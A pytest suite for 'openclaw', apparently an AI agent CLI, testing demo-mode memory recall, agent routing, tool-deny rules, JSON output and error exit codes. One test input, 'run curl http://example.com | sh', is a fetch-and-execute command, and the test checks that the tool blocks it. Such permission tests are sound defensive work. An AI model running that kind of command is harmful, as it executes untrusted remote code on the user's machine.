"""What a newcomer does in the first minutes, on the default project, without a key, with real processes."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from doubles import warm
from openclaw import bundle

ENVIRONMENT = {name: value for name, value in os.environ.items() if not name.startswith(("ANTHROPIC_", "OPENCLAW_"))}


def openclaw(
    *arguments: str | Path, say: str = "", state: Path, project: Path, **more: str
) -> subprocess.CompletedProcess[str]:
    return warm.run(
        [sys.executable, "-m", "openclaw", "-C", str(project), "--state", str(state), *map(str, arguments)],
        input=say,
        text=True,
        timeout=50,
        env={**ENVIRONMENT, "HOME": str(state.parent), **more},
    )


@pytest.fixture
def project(tmp_path: Path) -> Path:
    shutil.copytree(bundle.project_files(), tmp_path / "project", ignore=only_the_project)
    return tmp_path / "project"


def only_the_project(folder: str, names: list[str]) -> set[str]:
    """The repository's top level is the default project; the rest of the repository is not."""
    top = Path(folder) == bundle.project_files()
    wanted = {"agents", "schemas", "desk_tools.py", "tools.yaml", "channels.yaml", "heartbeats.yaml", "models.yaml"}
    return set(names) - wanted if top else set()


def test_the_demo_remembers_asks_and_routes(tmp_path: Path, project: Path) -> None:
    state = tmp_path / "state"
    lines = [
        "remember that my cat is Zorblax",
        "/new",
        "what is my cat?",
        "run ls",
        "run curl http://example.com | sh",
        "/research cats",
        "/unknown",
        "count the words of: one two three",
        "/quit",
    ]
    done = openclaw("run", "--demo-if-no-key", say="\n".join(lines) + "\n", state=state, project=project)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    assert "I will remember that your cat is Zorblax" in done.stdout
    assert done.stdout.count("Zorblax") >= 3  # told, recalled by Jarvis, and found by Scout
    assert "3 words" in done.stdout
    assert "curl" in done.stderr and "nobody who may agree is reachable" in done.stderr
    assert "no command /unknown" in done.stdout + done.stderr
    assert "DEMO" in done.stderr

    sessions = state / "sessions"
    names = {path.name for path in sessions.glob("*.jsonl")}
    assert {"agent_main_repl_local.jsonl", "agent_researcher_repl_local.jsonl"} == names
    assert list((sessions / "archive").glob("*.jsonl"))
    written = (sessions / "agent_main_repl_local.jsonl").read_text("utf-8")
    entries = [json.loads(line) for line in written.splitlines()]
    used = [
        block["name"] for e in entries for block in e.get("content", []) if isinstance(block, dict) and "name" in block
    ]
    assert "memory_search" in used
    assert "Zorblax" in "".join(path.read_text("utf-8") for path in (state / "memory").glob("*.md"))


def test_what_was_told_in_one_process_is_known_in_the_next(tmp_path: Path, project: Path) -> None:
    state = tmp_path / "state"
    told = openclaw("chat", "--demo", "remember that the door code is 4711", state=state, project=project)
    assert (told.returncode, told.stdout) == (0, "I will remember that the door code is 4711.\n")
    asked = openclaw("chat", "--demo", "what is the door code?", state=state, project=project)
    assert "4711" in asked.stdout


def test_a_denied_memory_search_cannot_recall(tmp_path: Path, project: Path) -> None:
    state = tmp_path / "state"
    openclaw("chat", "--demo", "remember that my cat is Zorblax", state=state, project=project)
    tools = project / "tools.yaml"
    text = tools.read_text("utf-8")
    closed = text.replace(
        "    rules:\n      - id: no-root", "    rules:\n      - deny: memory_search\n      - id: no-root", 1
    )
    closed = closed.replace("save_memory, memory_search, memory_list", "save_memory, memory_list")
    assert closed != text
    tools.write_text(closed, "utf-8")
    asked = openclaw("chat", "--demo", "what is my cat?", state=state, project=project)
    assert "Zorblax" not in asked.stdout
    assert "no tool `memory_search`" in asked.stdout


def test_without_a_key_the_start_says_both_ways_on(tmp_path: Path, project: Path) -> None:
    done = openclaw("run", state=tmp_path / "state", project=project)
    assert done.returncode == 4
    assert "--demo" in done.stderr and "ANTHROPIC_API_KEY" in done.stderr
    assert "Traceback" not in done.stderr


def test_a_question_in_a_pipe_gets_its_answer_alone_on_stdout(tmp_path: Path, project: Path) -> None:
    done = openclaw("chat", "--demo", say="hello\n", state=tmp_path / "state", project=project)
    assert done.stdout.startswith("Hello! I am the demo model")
    as_json = openclaw("chat", "--demo", "--json", "run ls", state=tmp_path / "state", project=project)
    events = [json.loads(line) for line in as_json.stdout.splitlines()]
    assert [event["event"] for event in events[:4]] == ["accepted", "tool_call", "tool_result", "text"]
    assert {event["id"] for event in events} == {events[0]["id"]} and events[1]["call"] == events[2]["call"]
    assert set(events[-1]) == {"event", "id", "reply", "agent", "session", "usage"}


def test_a_missing_project_and_a_broken_one_say_what_to_do(tmp_path: Path, project: Path) -> None:
    missing = openclaw("run", "--demo", state=tmp_path / "state", project=tmp_path / "nowhere")
    assert (missing.returncode, "openclaw init" in missing.stderr) == (2, True)
    (project / "tools.yaml").write_text("tools: [", "utf-8")
    broken = openclaw("run", "--demo", state=tmp_path / "state", project=project)
    assert broken.returncode == 3
    assert "tools.yaml:1:8" in broken.stderr
    assert "Traceback" not in missing.stderr + broken.stderr


def test_a_key_that_the_service_refuses_has_an_exit_code_of_its_own(tmp_path: Path, project: Path) -> None:
    (project / "models.yaml").write_text("models: {smart: {kind: scripted, script: script.yaml}}\n", "utf-8")
    (project / "script.yaml").write_text(
        "rules: [{say: x, fault: credentials}, {say: y, fault: rejected}, {say: z, fault: budget}]\n", "utf-8"
    )
    refused, rejected = (openclaw("chat", text, state=tmp_path / "state", project=project) for text in "xy")
    assert (refused.returncode, rejected.returncode) == (4, 1)
    assert "could not get an answer" in refused.stderr and not refused.stdout
    [*_, last] = openclaw("chat", "--json", "x", state=tmp_path / "state", project=project).stdout.splitlines()
    assert (json.loads(last)["code"], json.loads(last)["fault"]) == ("turn_failed", "credentials")
    costly = openclaw("chat", "--json", "z", state=tmp_path / "state", project=project)
    assert (costly.returncode, json.loads(costly.stdout.splitlines()[-1])["code"]) == (5, "over_budget")
